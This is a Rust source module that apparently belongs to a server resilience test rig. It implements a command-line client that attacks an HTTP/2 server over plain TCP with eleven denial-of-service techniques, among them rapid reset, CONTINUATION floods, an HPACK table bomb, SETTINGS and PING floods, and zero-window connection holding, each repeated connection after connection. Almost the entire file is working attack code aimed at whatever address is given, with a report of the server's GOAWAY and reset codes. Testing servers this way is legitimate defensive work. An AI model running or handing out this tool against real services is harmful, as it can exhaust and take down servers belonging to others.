//! A client that abuses HTTP/2 without TLS, on one connection after another, as fast as the server lets it.

use super::http2::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame,
};
use crate::failure::{Context, Failure, Result};
use crate::rig::confine::pinned;
use clap::ValueEnum;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

/// How often the abuse is repeated in a piece that is sent.
const REPETITIONS: u32 = 64;
/// The time to read in, between two pieces, and after the last one.
const PATIENCE: Duration = Duration::from_millis(20);
/// The headers of a section that is too long.
const LONG_HEADERS: u32 = 100;
const CONNECT_TIME_MAX: Duration = Duration::from_secs(1);
/// Connections that are held open at a time, where that is the abuse.
const HELD_MAX: usize = 50;
/// Streams of each of them.
const HELD_STREAMS: u32 = 100;
/// The code of the static table for `:path` with a value that enters the dynamic table (RFC 7541, 6.2.1).
const INDEXED_NEW_NAME: u8 = 0x40;
/// The newest field of the dynamic table.
const NEWEST: u8 = 0x80 | 62;

/// What the client does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Resets each request at once.
    RapidReset,
    /// One header section without an end.
    Continuation,
    /// The same of frames without content.
    EmptyContinuation,
    /// Settings, all of which have to be acknowledged.
    Settings,
    /// Pings, all of which have to be answered.
    Ping,
    /// A request body of frames without content.
    EmptyData,
    /// A field of 4 KB that one byte repeats.
    HpackBomb,
    /// Header sections of 100 KB.
    LongHeaders,
    /// More requests without an end than a connection may have.
    Streams,
    /// The window is opened byte by byte.
    WindowUpdates,
    /// Requests for a large file with a window of no bytes, on connections that stay open.
    ZeroWindow,
}

/// A server, an attack and its duration.
#[derive(Clone, Debug, clap::Args)]
pub struct Attacker {
    /// The address of the server.
    #[arg(long)]
    pub address: SocketAddr,
    /// What it does.
    #[arg(long, value_enum)]
    pub attack: Attack,
    /// Seconds.
    #[arg(long, default_value_t = 5.0)]
    pub seconds: f64,
}

/// How the server has answered.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct AttackReport {
    /// Connections.
    pub connections: u64,
    /// Frames that were sent.
    pub frames: u64,
    /// Those that the server ended, by the code of its GOAWAY; 0 for none.
    pub ended: BTreeMap<u32, u64>,
    /// Streams that the server reset, by code.
    pub resets: BTreeMap<u32, u64>,
}

/// A connection, and what of the server's frames is incomplete.
struct Victim {
    socket: TcpStream,
    partial: Vec<u8>,
    next: u32,
    /// The last GOAWAY.
    code: u32,
    /// The server has ended it, which was counted.
    has_ended: bool,
}

impl Attacker {
    /// Runs in this process and prints a report as JSON on standard output.
    ///
    /// # Errors
    /// The server refuses a connection.
    pub fn run(&self) -> Result<()> {
        let end = Instant::now() + Duration::from_secs_f64(self.seconds);
        let mut report = AttackReport::default();
        let mut held = Vec::new();
        while Instant::now() < end {
            if held.len() == HELD_MAX {
                std::thread::sleep(PATIENCE);
                held.retain_mut(|victim: &mut Victim| !victim.has_ended(&mut report));
                continue;
            }
            let mut victim = Victim::connect(self.address)?;
            report.connections += 1;
            if self.attack == Attack::ZeroWindow {
                victim.send(&zero_windows(), HELD_STREAMS, &mut report);
                held.push(victim);
            } else {
                self.exhaust(&mut victim, end, &mut report);
            }
        }
        let json = serde_json::to_string(&report).context(|| "report".into())?;
        println!("{json}");
        Ok(())
    }

    /// Attacks until the server ends the connection.
    fn exhaust(&self, victim: &mut Victim, end: Instant, report: &mut AttackReport) {
        let mut bytes = self.first(victim);
        while Instant::now() < end {
            let frames = self.piece(victim, &mut bytes);
            let is_sent = victim.send(&bytes, frames, report);
            bytes.clear();
            if victim.has_ended(report) || !is_sent {
                return;
            }
        }
    }

    /// What a connection begins with.
    fn first(&self, victim: &mut Victim) -> Vec<u8> {
        let mut bytes = Vec::new();
        match self.attack {
            // Its responses have to be on their way when it resets them, so the windows stay as small as they are.
            Attack::RapidReset => http2::preface_with(&mut bytes, &[]),
            // A larger one would be full after a few updates, which is another fault.
            Attack::WindowUpdates => http2::preface_with(&mut bytes, &[]),
            _ => http2::preface(&mut bytes),
        }
        let stream = victim.next;
        match self.attack {
            Attack::Continuation | Attack::EmptyContinuation => {
                frame(&mut bytes, HEADERS, END_STREAM, stream, &get("/"));
            }
            Attack::EmptyData => {
                let section = http2::header_section("POST", "http", "a.test", "/");
                frame(&mut bytes, HEADERS, END_HEADERS, stream, &section);
            }
            Attack::HpackBomb => {
                let mut section = get("/hot/4096.bin");
                section.push(INDEXED_NEW_NAME);
                section.extend_from_slice(b"\x01a\x7f\xa1\x1e");
                section.extend_from_slice(&[b'x'; 4000]);
                frame(
                    &mut bytes,
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    stream,
                    &section,
                );
                victim.next += 2;
            }
            _ => (),
        }
        bytes
    }

    /// Adds the next piece to `bytes`, and returns the number of its frames.
    fn piece(&self, victim: &mut Victim, bytes: &mut Vec<u8>) -> u32 {
        for _ in 0..REPETITIONS {
            let stream = victim.next;
            match self.attack {
                Attack::RapidReset => {
                    let section = get("/hot/1000000.bin");
                    frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &section);
                    frame(bytes, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
                    victim.next += 2;
                }
                Attack::Continuation => {
                    let mut field = Vec::new();
                    http2::field(&mut field, "a", &"x".repeat(1000));
                    frame(bytes, CONTINUATION, 0, stream, &field);
                }
                Attack::EmptyContinuation => frame(bytes, CONTINUATION, 0, stream, &[]),
                Attack::Settings => frame(bytes, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
                Attack::Ping => frame(bytes, PING, 0, 0, &[0; 8]),
                Attack::EmptyData => frame(bytes, DATA, 0, stream, &[]),
                Attack::HpackBomb => {
                    let section = [get("/hot/4096.bin"), vec![NEWEST; 15_000]].concat();
                    frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &section);
                    victim.next += 2;
                }
                Attack::LongHeaders => long_headers(bytes, victim),
                Attack::Streams => {
                    let section = http2::header_section("POST", "http", "a.test", "/");
                    frame(bytes, HEADERS, END_HEADERS, stream, &section);
                    victim.next += 2;
                }
                Attack::WindowUpdates => frame(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
                Attack::ZeroWindow => (),
            }
        }
        REPETITIONS * self.frames_of_an_abuse()
    }

    fn frames_of_an_abuse(&self) -> u32 {
        match self.attack {
            Attack::RapidReset => 2,
            Attack::LongHeaders => 1 + LONG_HEADERS,
            _ => 1,
        }
    }

    /// Starts it as a process, pinned to `cpu` if given.
    ///
    /// # Errors
    /// The process cannot be started.
    pub fn start(&self, cpu: Option<usize>) -> Result<RunningAttacker> {
        let attack = self.attack.to_possible_value();
        let attack = attack.ok_or_else(|| Failure::new("an attack without a name"))?;
        let arguments = [
            "attack".to_owned(),
            format!("--address={}", self.address),
            format!("--attack={}", attack.get_name()),
            format!("--seconds={}", self.seconds),
        ];
        let child = pinned(cpu, &arguments)?
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn();
        Ok(RunningAttacker(
            child.context(|| "start the attacker".into())?,
        ))
    }
}

/// A running attacker, which ends by itself.
pub struct RunningAttacker(Child);

impl RunningAttacker {
    /// Waits for its report.
    ///
    /// # Errors
    /// The process failed: its message is on standard error.
    pub fn report(self) -> Result<AttackReport> {
        let output = self.0.wait_with_output();
        let output = output.context(|| "wait for the attacker".into())?;
        serde_json::from_slice(&output.stdout).context(|| "the attacker failed".into())
    }
}

fn get(path: &str) -> Vec<u8> {
    http2::header_section("GET", "http", "a.test", path)
}

/// A request with many headers of 1000 bytes.
fn long_headers(bytes: &mut Vec<u8>, victim: &mut Victim) {
    frame(
        bytes,
        HEADERS,
        END_STREAM,
        victim.next,
        &get("/hot/4096.bin"),
    );
    for number in 1..=LONG_HEADERS {
        let mut field = Vec::new();
        http2::field(&mut field, "a", &"x".repeat(1000));
        let flags = if number == LONG_HEADERS {
            END_HEADERS
        } else {
            0
        };
        frame(bytes, CONTINUATION, flags, victim.next, &field);
    }
    victim.next += 2;
}

/// Requests of which no byte of a body may be answered.
fn zero_windows() -> Vec<u8> {
    let mut bytes = Vec::new();
    http2::preface_with(&mut bytes, &[(http2::INITIAL_WINDOW_SIZE, 0)]);
    for number in 0..HELD_STREAMS {
        let flags = END_HEADERS | END_STREAM;
        frame(
            &mut bytes,
            HEADERS,
            flags,
            number * 2 + 1,
            &get("/hot/1000000.bin"),
        );
    }
    bytes
}

impl Victim {
    fn connect(address: SocketAddr) -> Result<Self> {
        let socket = TcpStream::connect_timeout(&address, CONNECT_TIME_MAX)
            .context(|| format!("connect to {address}"))?;
        socket.set_nonblocking(true).context(|| "socket".into())?;
        Ok(Self {
            socket,
            partial: Vec::new(),
            next: 1,
            code: 0,
            has_ended: false,
        })
    }

    /// Sends `bytes`, and reads meanwhile. False when the server takes no more, because it has ended the connection or
    /// waits for this client.
    fn send(&mut self, mut bytes: &[u8], frames: u32, report: &mut AttackReport) -> bool {
        let mut since = Instant::now();
        while !bytes.is_empty() {
            match self.socket.write(bytes) {
                Ok(sent) => {
                    bytes = &bytes[sent..];
                    since = Instant::now();
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    if self.has_ended(report) || since.elapsed() > PATIENCE * 100 {
                        return false;
                    }
                    std::thread::yield_now();
                }
                Err(_) => return false,
            }
        }
        report.frames += u64::from(frames);
        true
    }

    /// Reads what is there, and returns whether the server has ended the connection, which is counted.
    fn has_ended(&mut self, report: &mut AttackReport) -> bool {
        if self.has_ended {
            return true;
        }
        let mut bytes = [0; 64 * 1024];
        loop {
            match self.socket.read(&mut bytes) {
                Ok(0) => break,
                Ok(read) => self.take(&bytes[..read], report),
                Err(error) if error.kind() == ErrorKind::WouldBlock => return false,
                Err(_) => break,
            }
        }
        self.has_ended = true;
        *report.ended.entry(self.code).or_default() += 1;
        true
    }

    /// Takes frames apart, of which only the codes matter.
    fn take(&mut self, bytes: &[u8], report: &mut AttackReport) {
        self.partial.extend_from_slice(bytes);
        let mut rest = &self.partial[..];
        while let Some((kind, payload, next)) = http2::split_frame(rest) {
            rest = next;
            match kind {
                GOAWAY => self.code = http2::u32_at(payload, 4),
                RST_STREAM => {
                    let code = http2::u32_at(payload, 0);
                    *report.resets.entry(code).or_default() += 1;
                }
                _ => (),
            }
        }
        let taken = self.partial.len() - rest.len();
        self.partial.drain(..taken);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;
    use std::thread;

    /// A server that resets a stream, and then ends the connection.
    #[test]
    fn codes_of_the_server_are_counted() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        thread::spawn(move || {
            let mut answer = Vec::new();
            frame(&mut answer, RST_STREAM, 0, 1, &[0, 0, 0, 7]);
            frame(&mut answer, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
            for mut socket in listener.incoming().flatten() {
                socket.read_exact(&mut [0; 24]).unwrap();
                socket.write_all(&answer).unwrap();
            }
        });
        let mut victim = Victim::connect(address).unwrap();
        let mut report = AttackReport::default();
        let attacker = Attacker {
            address,
            attack: Attack::Ping,
            seconds: 0.0,
        };
        let end = Instant::now() + Duration::from_secs(10);
        attacker.exhaust(&mut victim, end, &mut report);
        assert_eq!(report.ended, [(11, 1)].into());
        assert_eq!(report.resets, [(7, 1)].into());
    }
}
